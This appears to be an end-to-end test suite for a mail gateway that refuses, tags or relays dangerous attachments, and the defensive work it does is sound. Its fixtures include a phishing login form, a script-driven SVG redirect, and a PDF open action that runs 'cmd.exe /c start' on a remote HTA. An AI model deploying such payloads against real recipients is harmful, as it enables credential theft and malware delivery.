// Attachment types end to end: Python's smtplib sends real MIME mail with attachments (a program
// disguised as a PDF, a password-protected ZIP made by Info-ZIP, an ordinary PDF) through the
// gateway. The program is refused with 554 5.7.1 naming the file and never reaches the backend;
// the encrypted archive is relayed unchanged with ATTACH_ENCRYPTED_ARCHIVE; the PDF passes clean;
// a login page attached as "Remittance.html" and an SVG picture that runs a script are tagged
// (ATTACH_RISKY + ATTACH_PHISH_PAGE); a Word
// document with macros is tagged (ATTACH_MACRO), and one with a packaged program is refused, as are a
// disk image (genisoimage), a RAR archive and a 7-Zip archive (7zz) with a program in them (or in a ZIP
// in them), and a program an old mailer named in raw windows-1251 bytes, logged by its name; an RTF order with an Equation
// Editor object is tagged (ATTACH_EXPLOIT), as is a zipped PDF that starts cmd.exe; a PDF that runs
// JavaScript as it opens gets ATTACH_PDF_SCRIPT.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import iconv from 'iconv-lite';
import { startGateway, type Gateway } from '../helpers/gateway.ts';
import { startSink, type Sink } from '../helpers/sink.ts';
import { PDF, equationObject, oleDocument, rtfDocument, windowsProgram } from '../helpers/files.ts';
import { pdfDocument } from '../helpers/pdf.ts';
import { rar5Archive } from '../helpers/rar.ts';
import { gzipFile, isoImage, sevenZipArchive, tarArchive, xzFile, zipArchive } from '../helpers/zip.ts';

const exec = promisify(execFile);
const TOKEN = 'attachments-e2e-token';

// argv: port, subject, attachment file, its name in the mail[, the text]; prints the reply to DATA
const SEND = `
import smtplib, sys
from email.message import EmailMessage
port, subject, path, name = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
m = EmailMessage()
m['From'] = 'Accounts <accounts@sender.test>'; m['To'] = 'bob@example.com'; m['Subject'] = subject
m['Date'] = 'Tue, 01 Dec 2026 10:00:00 +0000'; m['Message-ID'] = '<%s@sender.test>' % abs(hash(subject))
m.set_content(sys.argv[5] if len(sys.argv) > 5 else 'Hello Bob, the documents you asked for are attached. Regards, Accounts')
m.add_attachment(open(path, 'rb').read(), maintype='application', subtype='octet-stream', filename=name)
s = smtplib.SMTP('127.0.0.1', port, local_hostname='py.sender.test', timeout=60)
try:
    s.send_message(m, from_addr='accounts@sender.test', to_addrs=['bob@example.com'])
    print('250 accepted')
except smtplib.SMTPDataError as e:
    print(e.smtp_code, e.smtp_error.decode())
s.quit()
`;

describe('attachment types through the gateway', () => {
  let dir: string;
  let sink: Sink;
  let gw: Gateway;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mm-attach-'));
    sink = await startSink();
    gw = await startGateway({ config: { backend: { host: '127.0.0.1', port: sink.port }, admin: { apiToken: TOKEN } } });
  });
  after(async () => {
    await gw?.cleanup();
    await sink?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const send = async (subject: string, content: Buffer, name: string, text?: string): Promise<string> => {
    const file = join(dir, `${subject.replace(/\W+/g, '-')}.bin`);
    writeFileSync(file, content);
    return (await exec('python3', ['-c', SEND, String(gw.smtpPort), subject, file, name, ...(text ? [text] : [])])).stdout.trim();
  };
  const logged = async (subject: string): Promise<{ action: string; symbols: Array<{ name: string; detail?: string }> }> => {
    const res = await fetch(`http://127.0.0.1:${gw.webPort}/api/admin/log?subject=${encodeURIComponent(subject)}`, { headers: { authorization: `Bearer ${TOKEN}` } });
    assert.equal(res.status, 200);
    const { items } = await res.json() as { items: Array<{ action: string; symbols: Array<{ name: string; detail?: string }> }> };
    assert.equal(items.length, 1, subject);
    return items[0]!;
  };

  test('a program named invoice.pdf.exe is refused with 554 5.7.1 naming it; the backend gets nothing', async () => {
    const before = sink.messages.length;
    const reply = await send('Invoice 4711', windowsProgram(), 'invoice.pdf.exe');
    assert.equal(reply, '554 5.7.1 Attachment type not accepted: invoice.pdf.exe (.exe)');
    assert.equal(sink.messages.length, before);
    const entry = await logged('Invoice 4711');
    assert.equal(entry.action, 'reject');
    // the log lists symbols by their score
    assert.deepEqual(entry.symbols.filter((s) => s.name.startsWith('ATTACH_')).map((s) => `${s.name}: ${s.detail}`).sort(), [
      'ATTACH_BLOCKED: invoice.pdf.exe (.exe)',
      'ATTACH_DECEPTIVE_NAME: invoice.pdf.exe (.pdf in front of .exe)',
    ]);
  });

  test('a program inside a ZIP inside a ZIP, or inside an attached message, is refused too', async () => {
    const nested = zipArchive([['scans.zip', zipArchive([['scan_0042.scr', windowsProgram()]])]]);
    assert.equal(await send('Scans', nested, 'scans.zip'), '554 5.7.1 Attachment type not accepted: scans.zip > scans.zip > scan_0042.scr (.scr)');
    // and in a saved message attached as a file
    const saved = Buffer.from(`From: a@sender.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="S"\r\n\r\n--S\r\nContent-Type: text/plain\r\n\r\nhi\r\n--S\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="update.js"\r\n\r\n${Buffer.from('WScript.Echo(1)').toString('base64')}\r\n--S--\r\n`);
    assert.equal(await send('Forwarded', saved, 'Fwd_ invoice.eml'), '554 5.7.1 Attachment type not accepted: Fwd_ invoice.eml > update.js (.js)');
    // the dashboard counts them beside the viruses
    const res = await fetch(`http://127.0.0.1:${gw.webPort}/api/admin/stats`, { headers: { authorization: `Bearer ${TOKEN}` } });
    assert.equal(((await res.json()) as { traffic: { totals: { blockedAttachments: number } } }).traffic.totals.blockedAttachments, 3);
  });

  test('a password-protected ZIP is relayed unchanged, scored ATTACH_ENCRYPTED_ARCHIVE; a PDF passes clean', async () => {
    const locked = zipArchive([['Rechnung.pdf', PDF]], { password: 'rechnung2026' });
    assert.equal(await send('Rechnung Dezember', locked, 'Rechnung.zip'), '250 accepted');
    const relayed = sink.messages.at(-1)!.raw.toString('latin1');
    assert.match(relayed, /X-Spam-Status: No, score=3(\.\d+)? [^\r\n]*tests=[^\r\n]*ATTACH_ENCRYPTED_ARCHIVE/);
    assert.ok(relayed.replace(/\r\n/g, '').includes(locked.toString('base64')), 'the archive is relayed as sent');

    assert.equal(await send('Contract', PDF, 'Vertrag 2027.pdf'), '250 accepted');
    assert.doesNotMatch(sink.messages.at(-1)!.raw.toString('latin1'), /ATTACH_/);
  });

  test('a locked ZIP with its password in the text (the Emotet way) is opened with it: the macro document inside is found', async () => {
    const locked = zipArchive([['Rechnung.doc', oleDocument({ macros: true })]], { password: 'Re2026' });
    const before = sink.messages.length;
    assert.equal(await send('Ihre Rechnung', locked, 'Rechnung.zip', 'Guten Tag, anbei die Rechnung. Das Passwort lautet: Re2026'), '250 accepted');
    const entry = await logged('Ihre Rechnung');
    assert.deepEqual(entry.symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`).sort(), [
      'ATTACH_ENCRYPTED_ARCHIVE: Rechnung.zip (password-protected ZIP, opened with the password in the text)',
      'ATTACH_ENCRYPTED_PASSWORD: the text gives the password: "Re2026"',
      'ATTACH_MACRO: Rechnung.zip > Rechnung.doc (an Office document with macros)',
    ]);
    // 3 + 3 + the macro's weight: held, not delivered
    assert.equal(entry.action, 'quarantine');
    assert.equal(sink.messages.length, before);
  });

  test('an attached login page and a scripted SVG picture are tagged ATTACH_PHISH_PAGE; an HTML report is only risky', async () => {
    const page = '<!DOCTYPE html><html><body><form method="post" action="https://o365-verify.test/next.php"><p>Sign in to view the remittance.</p>'
      + '<input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form></body></html>';
    assert.equal(await send('Remittance advice', Buffer.from(page), 'Remittance.html'), '250 accepted');
    const entry = await logged('Remittance advice');
    assert.equal(entry.action, 'tag');
    assert.deepEqual(entry.symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`), [
      'ATTACH_PHISH_PAGE: Remittance.html (a web page that asks for a password)',
      'ATTACH_RISKY: Remittance.html (.html)',
    ]);
    assert.match(sink.messages.at(-1)!.raw.toString('latin1'), /^Subject: \[SPAM\] Remittance advice/m);

    // the "voicemail" SVG of 2024–2025 campaigns: a picture that sends the reader on by script
    const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><text y="40">Voicemail 00:42</text>'
      + '<script><![CDATA[ window.location.href = atob("aHR0cHM6Ly9vMzY1LXZlcmlmeS50ZXN0Lw==") + "#carol@example.com"; ]]></script></svg>';
    assert.equal(await send('Voicemail from +49 30 1234', Buffer.from(svg), 'VM_0042.svg'), '250 accepted');
    assert.deepEqual((await logged('Voicemail from +49 30 1234')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`), [
      'ATTACH_PHISH_PAGE: VM_0042.svg (an SVG picture that runs a script)',
      'ATTACH_RISKY: VM_0042.svg (.svg)',
    ]);

    assert.equal(await send('Quarterly report', Buffer.from('<html><body><h1>Q3</h1><p>Revenue up 4 %.</p></body></html>'), 'Q3.html'), '250 accepted');
    assert.deepEqual((await logged('Quarterly report')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => x.name), ['ATTACH_RISKY']);
  });

  test('a Word document with macros is tagged ATTACH_MACRO whatever its name; one with a packaged program is refused', async () => {
    assert.equal(await send('Offer 2027', oleDocument({ macros: true }), 'Angebot.doc'), '250 accepted');
    const entry = await logged('Offer 2027');
    assert.equal(entry.action, 'tag');
    assert.deepEqual(entry.symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`), ['ATTACH_MACRO: Angebot.doc (an Office document with macros)']);
    assert.match(sink.messages.at(-1)!.raw.toString('latin1'), /^Subject: \[SPAM\] Offer 2027/m);
    const before = sink.messages.length;
    const packaged = oleDocument({ packaged: { name: 'Lieferschein.pdf.exe', content: windowsProgram() } });
    assert.equal(await send('Delivery note', packaged, 'Lieferschein.doc'), '554 5.7.1 Attachment type not accepted: Lieferschein.doc > Lieferschein.pdf.exe (.exe)');
    assert.equal(sink.messages.length, before);
  });

  test('an RTF document with an Equation Editor object is tagged ATTACH_EXPLOIT, whatever it is called', async () => {
    const order = rtfDocument([{ className: 'Word.Picture.8', native: equationObject({ progId: false }) }], { obfuscated: true });
    assert.equal(await send('Purchase order 4471', order, 'PO-4471.doc'), '250 accepted');
    const entry = await logged('Purchase order 4471');
    assert.equal(entry.action, 'tag');
    assert.deepEqual(entry.symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`), ['ATTACH_EXPLOIT: PO-4471.doc (an Equation Editor object (CVE-2017-11882))']);
    assert.match(sink.messages.at(-1)!.raw.toString('latin1'), /^Subject: \[SPAM\] Purchase order 4471/m);
  });

  test('a zipped PDF that starts cmd.exe is tagged ATTACH_EXPLOIT; one that runs JavaScript as it opens, ATTACH_PDF_SCRIPT', async () => {
    const launcher = zipArchive([['Rechnung_4471.pdf', pdfDocument({ openAction: { launch: 'cmd.exe', parameters: '/c start https://x.test/a.hta' } })]]);
    assert.equal(await send('Rechnung 4471', launcher, 'Rechnung_4471.zip'), '250 accepted');
    const entry = await logged('Rechnung 4471');
    assert.equal(entry.action, 'tag');
    assert.deepEqual(entry.symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`),
      ['ATTACH_EXPLOIT: Rechnung_4471.zip > Rechnung_4471.pdf (a PDF that starts a program: /Launch cmd.exe with parameters)']);
    assert.equal(await send('Angebot 12', pdfDocument({ openAction: { javascript: 'this.exportDataObject({cName: "a"})' } }), 'Angebot.pdf'), '250 accepted');
    assert.deepEqual((await logged('Angebot 12')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => x.name), ['ATTACH_PDF_SCRIPT']);
  });

  test('a disk image with a program on it is refused, whatever the image is called', async () => {
    const image = isoImage([['Scan_2026-12.pdf.exe', windowsProgram()], ['info.txt', 'see the scan']]);
    assert.equal(await send('Scanned document', image, 'Scan_2026-12.img'), '554 5.7.1 Attachment type not accepted: Scan_2026-12.img > Scan_2026-12.pdf.exe (.exe)');
    assert.equal(await send('Backup', image, 'backup.bin'), '554 5.7.1 Attachment type not accepted: backup.bin > Scan_2026-12.pdf.exe (.exe)');
  });

  test('a compressed tar or a gzip file with a program in it is refused; a tarball of documents passes', async () => {
    const tgz = tarArchive([['Lieferschein_12-2026.pdf.exe', windowsProgram()], ['liesmich.txt', 'siehe Anhang']], { gzip: true });
    assert.equal(await send('Delivery note', tgz, 'Lieferschein.tgz'), '554 5.7.1 Attachment type not accepted: Lieferschein.tgz > Lieferschein_12-2026.pdf.exe (.exe)');
    assert.equal(await send('Invoice gz', gzipFile('Rechnung.pdf.js', 'WScript.Shell'), 'Rechnung.gz'), '554 5.7.1 Attachment type not accepted: Rechnung.gz > Rechnung.pdf.js (.js)');
    assert.equal(await send('Reports tarball', tarArchive([['Bericht.pdf', PDF]], { gzip: true }), 'Berichte.tar.gz'), '250 accepted');
    // xz keeps no name: a program in one is judged under the file's name less ".xz"
    assert.equal(await send('Invoice xz', xzFile(windowsProgram()), 'Rechnung.xz'), '554 5.7.1 Attachment type not accepted: Rechnung.xz > Rechnung (a Windows program)');
    assert.equal(await send('Reports txz', tarArchive([['Bericht.pdf', PDF]], { xz: true }), 'Berichte.tar.xz'), '250 accepted');
  });

  test('a ZIP\'s files are judged by their bytes: a program named as a PDF is refused', async () => {
    assert.equal(await send('Documents', zipArchive([['Rechnung.pdf', windowsProgram()], ['Bericht.pdf', PDF]]), 'Unterlagen.zip'), '554 5.7.1 Attachment type not accepted: Unterlagen.zip > Rechnung.pdf (a Windows program)');
  });

  test('a RAR archive with a program in it is refused; a password-protected one is scored', async () => {
    assert.equal(await send('Payment', rar5Archive([['Zahlung.pdf.scr', windowsProgram()]]), 'Zahlung.rar'), '554 5.7.1 Attachment type not accepted: Zahlung.rar > Zahlung.pdf.scr (.scr)');
    assert.equal(await send('Locked offer', rar5Archive([['Angebot.pdf', PDF]], { encrypted: true }), 'Angebot.rar'), '250 accepted');
    assert.deepEqual((await logged('Locked offer')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`), ['ATTACH_ENCRYPTED_ARCHIVE: Angebot.rar (password-protected RAR)']);
  });

  test('a 7-Zip archive with a program in it is refused; one with encrypted names is scored', async () => {
    assert.equal(await send('Order 7z', sevenZipArchive([['Bestellung.pdf.exe', windowsProgram()]]), 'Bestellung.7z'), '554 5.7.1 Attachment type not accepted: Bestellung.7z > Bestellung.pdf.exe (.exe)');
    // a ZIP inside it is opened, as a ZIP's own ZIPs are
    assert.equal(await send('Order 7z zip', sevenZipArchive([['Bestellung.zip', zipArchive([['Bestellung.pdf.exe', windowsProgram()]])]]), 'Bestellung.7z'),
      '554 5.7.1 Attachment type not accepted: Bestellung.7z > Bestellung.zip > Bestellung.pdf.exe (.exe)');
    assert.equal(await send('Locked 7z', sevenZipArchive([['Angebot.pdf', PDF]], { password: 'geheim', encryptNames: true }), 'Angebot.7z'), '250 accepted');
    assert.deepEqual((await logged('Locked 7z')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`), ['ATTACH_ENCRYPTED_ARCHIVE: Angebot.7z (7-Zip archive with encrypted names)']);
  });

  test('an attachment named in raw windows-1251 bytes by an old mailer is named right in the log', async () => {
    const name = iconv.encode('Счёт на оплату.pdf.exe', 'windows-1251');
    const raw = Buffer.concat([
      Buffer.from('From: Accounts <accounts@sender.test>\r\nTo: bob@example.com\r\nSubject: Schet 12\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\nMessage-ID: <schet12@sender.test>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: text/plain; charset=windows-1251\r\nContent-Transfer-Encoding: 8bit\r\n\r\n'),
      iconv.encode('Добрый день, счёт во вложении.', 'windows-1251'),
      Buffer.from('\r\n--B\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="'), name,
      Buffer.from(`"\r\n\r\n${windowsProgram().toString('base64')}\r\n--B--\r\n`),
    ]);
    const file = join(dir, 'schet.eml');
    writeFileSync(file, raw);
    const script = `import smtplib, sys
s = smtplib.SMTP('127.0.0.1', int(sys.argv[1]), local_hostname='py.sender.test', timeout=60)
try:
    s.sendmail('accounts@sender.test', ['bob@example.com'], open(sys.argv[2], 'rb').read())
    print('250 accepted')
except smtplib.SMTPDataError as e:
    print(e.smtp_code, e.smtp_error.decode())
s.quit()`;
    // the SMTP reply is ASCII; the message log keeps the name as the recipient would see it
    assert.equal((await exec('python3', ['-c', script, String(gw.smtpPort), file])).stdout.trim(), '554 5.7.1 Attachment type not accepted: ???? ?? ??????.pdf.exe (.exe)');
    assert.deepEqual((await logged('Schet 12')).symbols.filter((x) => x.name === 'ATTACH_BLOCKED').map((x) => x.detail), ['Счёт на оплату.pdf.exe (.exe)']);
  });

  test('the admin lets one type through live (as the settings page does) and takes it back', async () => {
    const rulesApi = (body: unknown): Promise<Response> => fetch(`http://127.0.0.1:${gw.webPort}/api/admin/rules`, {
      method: 'PATCH', headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' }, body: JSON.stringify(body),
    });
    const installer = Buffer.from('MSI installer bytes (not a PE program)');
    assert.match(await send('Installer 1', installer, 'agent-setup.msi'), /^554 5\.7\.1 .*agent-setup\.msi \(\.msi\)$/);
    const bad = await rulesApi({ allowExtensions: ['msi', '*.exe'] });
    assert.equal(bad.status, 400);
    assert.match(await bad.text(), /allowExtensions\.1/);
    const res = await rulesApi({ allowExtensions: ['.MSI'] });
    assert.equal(res.status, 200);
    assert.deepEqual(((await res.json()) as { checks: { attachments: { allowExtensions: string[] } } }).checks.attachments.allowExtensions, ['msi']);
    assert.equal(await send('Installer 2', installer, 'agent-setup.msi'), '250 accepted');
    // a program's content is refused whatever its name is allowed as
    assert.equal(await send('Installer 3', windowsProgram(), 'agent-setup.msi'), '554 5.7.1 Attachment type not accepted: agent-setup.msi (a Windows program)');
    assert.equal((await rulesApi({ allowExtensions: [] })).status, 200);
    assert.match(await send('Installer 4', installer, 'agent-setup.msi'), /^554 5\.7\.1/);
  });
});
